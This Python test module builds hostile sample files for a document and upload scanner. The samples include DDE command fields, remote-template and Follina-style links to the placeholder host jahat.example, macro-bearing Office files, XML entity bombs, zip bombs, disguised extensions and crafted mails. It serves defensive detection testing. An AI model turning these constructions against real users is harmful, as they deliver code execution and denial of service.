"""More files that are sent to do harm, each with the sentence that refuses it: documents that act, archives that lie, mails."""

import base64
import struct
import zipfile
import zlib

from evidence import archives, office, sniff
from tests.evidence import corpus

REMOTE, LOCAL = "https://jahat.example/a.dotm", "\\\\10.0.0.1\\bagi\\a.dotm"
RELATION = '<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/%s" Target="%s"%s/>'
BOMB = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]><a>&b;</a>'
WORD, SHEET, SLIDE = "word/document.xml", "xl/workbook.xml", "ppt/presentation.xml"
RUN = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>%s<w:r><w:fldChar w:fldCharType="end"/></w:r>'
CODE = "<w:r><w:instrText>%s</w:instrText></w:r>"


def links(*relations: tuple[str, str], inside: bool = False) -> bytes:
    """A part that lists what a document draws on; outside of it, unless `inside`."""
    mode = "" if inside else ' TargetMode="External"'
    rows = "".join(RELATION % (kind, target, mode) for kind, target in relations)
    return f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{rows}</Relationships>'.encode()


def document(body: str, *more: tuple[str, bytes], encoding: str = "utf-8") -> bytes:
    """A DOCX with this body, as Word puts it together."""
    text = f'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">{body}</w:document>'
    types = ("[Content_Types].xml", corpus.OOXML_TYPES % b"")
    return corpus.zipped(types, (WORD, text.encode(encoding)), *more)


def sheet(*more: tuple[str, bytes]) -> bytes:
    return corpus.office(SHEET, extra=more)


def text_document(content: bytes = b"<office:document-content/>", *more: tuple[str, bytes]) -> bytes:
    return corpus.zipped(("mimetype", corpus.ODT.encode()), ("content.xml", content), *more)


def mail(
    *attached: tuple[str, bytes], boundary: str = "batas", header: str = 'filename="%s"', body: str = "Terlampir."
) -> bytes:
    """A mail; each attachment is described by `header`, which names the file."""
    lines = ["From: a@example.org", "To: b@example.org", "Subject: Bukti", "MIME-Version: 1.0"]
    lines += [
        f'Content-Type: multipart/mixed; boundary="{boundary}"',
        "",
        f"--{boundary}",
        "Content-Type: text/plain",
        "",
        body,
    ]
    for name, content in attached:
        described = header % name if "%s" in header else header
        coded = base64.encodebytes(content).decode().strip()
        lines += [f"--{boundary}", "Content-Type: application/octet-stream", "Content-Transfer-Encoding: base64"]
        lines += [f"Content-Disposition: attachment; {described}", "", coded]
    return "\r\n".join([*lines, f"--{boundary}--", ""]).replace("\n", "\r\n").replace("\r\r", "\r").encode()


def locked_zip() -> bytes:
    raw = bytearray(corpus.zipped(("rahasia.txt", b"isi")))
    for at in (6, raw.index(b"PK\x01\x02") + 8):
        raw[at] |= 1
    return bytes(raw)


def crowded_directory(entries: int = 400_000) -> bytes:
    """A directory that takes seconds to read, behind an end that admits one entry."""
    one = corpus.zipped(("a", b""))
    at = one.index(b"PK\x01\x02")
    entry = one[at : one.index(b"PK\x05\x06")]
    return one[:at] + entry * entries + struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, 1, 1, len(entry) * entries, at, 0)


def large_directory(entries: int = 400_000) -> bytes:
    """The same, told by ZIP64's end, which hides it from who reads the short one."""
    raw = crowded_directory(entries)
    at, size = raw.index(b"PK\x01\x02"), len(raw) - 22 - raw.index(b"PK\x01\x02")
    end = struct.pack("<4sQ2H2I4Q", b"PK\x06\x06", 44, 45, 45, 0, 0, 1, 1, size, at)
    place = struct.pack("<4sIQI", b"PK\x06\x07", 0, len(raw) - 22, 1)
    return raw[:-22] + end + place + struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, 1, 1, 0xFFFFFFFF, 0xFFFFFFFF, 0)


def deep_zip(levels: int = 6, wide: int = 4) -> bytes:
    """Archives in archives under innocent names, each level many times the one below."""
    held = corpus.zipped(("0.txt", bytes(900_000)))
    for _level in range(levels):
        held = corpus.zipped(*((f"{number}.txt", held) for number in range(wide)))
    return held


def moving_png(frames: int) -> bytes:
    still = corpus.png_header(64, 48)
    data = struct.pack(">II", frames, 0)
    chunk = struct.pack(">I", 8) + b"acTL" + data + struct.pack(">I", zlib.crc32(b"acTL" + data))
    return still[:33] + chunk + still[33:]


def moving_webp(frames: int) -> bytes:
    head = b"VP8X" + struct.pack("<I", 10) + b"\x02\0\0\0" + (63).to_bytes(3, "little") + (47).to_bytes(3, "little")
    frame = b"ANMF" + struct.pack("<I", 24) + bytes(24)
    body = b"WEBP" + head + b"ANIM" + struct.pack("<I", 6) + bytes(6) + frame * frames
    return b"RIFF" + struct.pack("<I", len(body)) + body


def heic_described_last(width: int, height: int) -> bytes:
    """The description behind a megabyte of pixels."""
    whole = corpus.heic(width, height)
    at = whole.index(b"meta") - 4
    end = at + int.from_bytes(whole[at : at + 4], "big")
    return whole[:at] + struct.pack(">I4s", 8 + 1_000_000, b"mdat") + bytes(1_000_000) + whole[at:end]


def packed_otherwise() -> bytes:
    return corpus.zipped(("isi.txt", bytes(5_000)), method=zipfile.ZIP_BZIP2)


def nul_in_name() -> bytes:
    return corpus.zipped(("foto.jpg_.exe", corpus.picture("JPEG"))).replace(b"foto.jpg_.exe", b"foto.jpg\0.exe")


SHORTCUT = b"L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0\x46" + bytes(80)
DISC = bytes(32_768) + b"\x01CD001\x01" + bytes(2_048)
CONTAINED_EXE = corpus.zipped(("baca saya.pdf", corpus.PROGRAM))
HOSTILE = {
    # under another name
    "orasi.mp4": (corpus.PAGE, sniff.DISGUISED),
    "pidato.mp4": (struct.pack(">I4s4sI4s", 20, b"ftyp", b"isom", 0, b"isom") + corpus.PAGE, sniff.DISGUISED),
    "rekaman.webm": (b"\x1a\x45\xdf\xa3\x93\x42\x82\x84webm" + corpus.PAGE, sniff.DISGUISED),
    "foto 1.heic": (corpus.PAGE, sniff.DISGUISED),
    "laporan.docx": (corpus.PROGRAM, sniff.DISGUISED),
    "foto.jpg.html": (corpus.PROGRAM, sniff.DISGUISED),
    "daftar.xlsx": (corpus.pdf("a"), sniff.DISGUISED),
    "undangan.jpg": (corpus.pdf("a"), sniff.DISGUISED),
    "gambar.pdf": (corpus.word("a"), sniff.DISGUISED),
    "foto 2.jpg": (SHORTCUT, sniff.DISGUISED),
    "salinan.pdf": (DISC, sniff.DISGUISED),
    "surat.pdf.lnk": (SHORTCUT, sniff.KIND),
    "cadangan.iso": (DISC, sniff.KIND),
    "halaman.mht": (b"From: <Saved by Blink>\r\nMIME-Version: 1.0\r\n\r\n", sniff.KIND),
    "halaman.mhtml": (b"From: <Saved by Blink>\r\nMIME-Version: 1.0\r\n\r\n", sniff.KIND),
    "alat.hta": (corpus.PAGE, sniff.KIND),
    "tombol.js": (b"alert(1)", sniff.KIND),
    "pesan.vbs": (b"MsgBox 1", sniff.KIND),
    "foto.jpg . .exe": (corpus.picture("JPEG"), sniff.KIND),
    "\u202efdp.exe": (corpus.pdf("a"), sniff.KIND),
    "pemasang.docx": (corpus.old_office("MsiTable"), sniff.OLD),
    # documents that act
    "tabel.xlsm": (sheet(("xl/vbaProject.bin", b"\0")), office.MACROS),
    "makro tersembunyi.docx": (
        document(
            "", ("word/_rels/document.xml.rels", links(("../2006/relationships/vbaProject", "gambar.bin"), inside=True))
        ),
        office.MACROS,
    ),
    "templat jauh.docx": (
        document("", ("word/_rels/settings.xml.rels", links(("attachedTemplate", REMOTE)))),
        office.LINKED,
    ),
    "templat jaringan.docx": (
        document("", ("word/_rels/settings.xml.rels", links(("attachedTemplate", LOCAL)))),
        office.LINKED,
    ),
    "templat berkas.docx": (
        document("", ("word/_rels/settings.xml.rels", links(("attachedTemplate", "file://10.0.0.1/a.dotm")))),
        office.LINKED,
    ),
    "gambar jauh.docx": (
        document("", ("word/_rels/document.xml.rels", links(("image", "http://jahat.example/a.png")))),
        office.LINKED,
    ),
    "follina.docx": (
        document(
            "", ("word/_rels/document.xml.rels", links(("oleObject", "mhtml:https://jahat.example/a.html!x-usc:b")))
        ),
        office.LINKED,
    ),
    "impor.docx": (
        document("", ("word/_rels/document.xml.rels", links(("aFChunk", "a.rtf"), inside=True))),
        office.OBJECTS,
    ),
    "objek.docx": (document("", ("word/embeddings/oleObject1.bin", corpus.old_office("Package"))), office.OBJECTS),
    "program.docx": (document("", ("word/media/image1.png", corpus.PROGRAM)), office.OBJECTS),
    "arsip dalam.docx": (document("", ("word/embeddings/a.zip", corpus.zipped(("a.txt", b"a")))), office.OBJECTS),
    "tabel bermakro dalam.docx": (
        document("", ("word/embeddings/a.xlsx", sheet(("xl/vbaProject.bin", b"\0")))),
        office.MACROS,
    ),
    "tiga lapis.docx": (
        document("", ("word/embeddings/a.docx", document("", ("word/embeddings/b.xlsx", sheet())))),
        office.OBJECTS,
    ),
    "dde.docx": (document(RUN % (CODE % 'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"')), office.LINKED),
    "dde terbelah.docx": (document(RUN % (CODE % "D" + CODE % "DE" + CODE % "AUTO cmd")), office.LINKED),
    "dde sederhana.docx": (document("<w:fldSimple w:instr='DDE excel'/>"), office.LINKED),
    "dde utf16.docx": (document(RUN % (CODE % "DDEAUTO cmd"), encoding="utf-16"), office.LINKED),
    "dde kepala.docx": (document("", ("word/header1.xml", (RUN % (CODE % " ddeauto cmd")).encode())), office.LINKED),
    "dde.xlsx": (
        sheet(
            (
                "xl/externalLinks/externalLink1.xml",
                b'<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
            )
        ),
        office.LINKED,
    ),
    "buku jauh.xlsx": (
        sheet(("xl/externalLinks/_rels/externalLink1.xml.rels", links(("externalLinkPath", REMOTE)))),
        office.LINKED,
    ),
    "jalankan.pptx": (
        corpus.office(SLIDE, extra=(("ppt/slides/slide1.xml", b'<a:hlinkClick action="ppaction://program"/>'),)),
        office.MACROS,
    ),
    "kejadian.odt": (
        text_document(b'<script:event-listener xlink:href="vnd.sun.star.script:a.b?language=Basic"/>'),
        office.MACROS,
    ),
    "gambar jauh.odt": (
        text_document(b'<draw:image xlink:type="simple" xlink:href="http://jahat.example/a.png"/>'),
        office.LINKED,
    ),
    "jaringan.odt": (text_document(b'<draw:object xlink:href="//10.0.0.1/a"/>'), office.LINKED),
    "dde.odt": (text_document(b'<text:dde-connection-decls office:dde-application="cmd"/>'), office.LINKED),
    "objek.odt": (text_document(b"<a/>", ("Object 1", corpus.old_office("Package"))), office.OBJECTS),
    "entitas.docx": (document("", ("word/styles.xml", BOMB)), office.CROOKED),
    "entitas.xlsx": (sheet(("xl/sharedStrings.xml", BOMB)), office.CROOKED),
    "entitas.odt": (text_document(BOMB), office.CROOKED),
    "entitas utf16.docx": (document("", ("word/a.xml", BOMB.decode().encode("utf-16"))), office.CROOKED),
    "entitas tautan.docx": (document("", ("word/_rels/document.xml.rels", BOMB)), office.CROOKED),
    # archives that lie
    "terkunci.zip": (locked_zip(), archives.LOCKED),
    "terkunci lain.docx": (locked_zip(), archives.LOCKED),
    "direktori.zip": (crowded_directory(), archives.MANY),
    "direktori 64.zip": (large_directory(), archives.MANY),
    "42.zip": (
        corpus.zipped(*((f"lib {n}.zip", corpus.zipped(("0.dll", bytes(900_000)))) for n in range(16))),
        archives.NESTED,
    ),
    "42 samaran.zip": (deep_zip(), archives.NESTED),
    "cara lain.zip": (packed_otherwise(), archives.PATHS),
    "nol.zip": (nul_in_name(), archives.PATHS),
    "laman.zip": (corpus.zipped(("foto.jpg", corpus.PAGE)), archives.WITHIN),
    "makro.zip": (corpus.zipped(("surat.docx", document("", ("word/vbaProject.bin", b"\0")))), archives.WITHIN),
    "banjir.zip": (corpus.zipped(("foto.png", corpus.png_header(50_000, 50_000))), archives.WITHIN),
    "gambar dan arsip.zip": (
        corpus.zipped(("foto.jpg", corpus.picture("JPEG") + corpus.zipped(("a.txt", b"a")))),
        archives.WITHIN,
    ),
    "gambar svg.zip": (corpus.zipped(("gambar.svg", corpus.SVG)), archives.MEMBER),
    "tersembunyi.zip": (corpus.zipped(("__MACOSX/._a.exe", corpus.PROGRAM)), archives.MEMBER),
    "samaran sistem.zip": (corpus.zipped(("Thumbs.db", corpus.PROGRAM)), archives.PROGRAM),
    "pengaturan.zip": (corpus.zipped(("desktop.ini", corpus.PROGRAM)), archives.PROGRAM),
    "surel dalam.zip": (corpus.zipped(("a.eml", mail(("b.zip", corpus.zipped(("c.txt", b"c")))))), archives.WITHIN),
    "tar dalam.zip": (corpus.zipped(("a.tar.gz", b"\x1f\x8b" + bytes(50))), archives.NESTED),
    # floods of pixels and frames
    "bergerak.png": (moving_png(60_000), sniff.FRAMES),
    "bergerak.webp": (moving_webp(3_000), sniff.FRAMES),
    "banjir belakang.heic": (heic_described_last(60_000, 60_000), sniff.PIXELS),
    "garis.png": (corpus.png_header(1, 2_000_000_000), sniff.PIXELS),
    "isian.jpg": (b"\xff\xd8" + b"\xff" * 20_000_000, archives.BROKEN),
    "nol.png": (corpus.png_header(0, 10), sniff.PIXELS),
    "tanpa ukuran.heic": (corpus.boxes(b"heic"), archives.BROKEN),
    "terpotong.png": (corpus.picture("PNG")[:18], archives.BROKEN),
    # mails
    "program.eml": (mail(("baca.exe", corpus.PROGRAM)), sniff.ATTACHED),
    "samaran.eml": (mail(("laporan.pdf", corpus.PROGRAM)), sniff.ATTACHED),
    "nama bersandi.eml": (
        mail(("=?utf-8?B?" + base64.b64encode(b"baca.js").decode() + "?=", b"alert(1)")),
        sniff.ATTACHED,
    ),
    "nama terbelah.eml": (mail(("", b"alert(1)"), header='filename*0=ba; filename*1="ca.js"'), sniff.ATTACHED),
    "nama lain.eml": (mail(("", b"alert(1)"), header="filename*=utf-8''baca%2Ejs"), sniff.ATTACHED),
    "tanpa nama.eml": (mail(("", corpus.PROGRAM), header=""), sniff.ATTACHED),
    "batas aneh.eml": (
        mail(("baca.exe", corpus.PROGRAM)).replace(b'boundary="batas"', b"boundary*0=ba; boundary*1=tas"),
        sniff.ATTACHED,
    ),
    "makro.eml": (mail(("surat.docx", document("", ("word/vbaProject.bin", b"\0")))), sniff.ATTACHED),
    "arsip.eml": (mail(("arsip.zip", CONTAINED_EXE)), sniff.ATTACHED),
    "lama.eml": (mail(("surat.doc", corpus.old_office("WordDocument"))), sniff.ATTACHED),
    "diteruskan.eml": (mail(("asli.eml", mail(("baca.exe", corpus.PROGRAM), boundary="lain"))), sniff.ATTACHED),
    "lampiran gif.eml": (mail(("logo.gif", corpus.PROGRAM)), sniff.ATTACHED),
    "ramai.eml": (mail(*((f"{n}.txt", b"a") for n in range(300))), sniff.CROWDED),
}
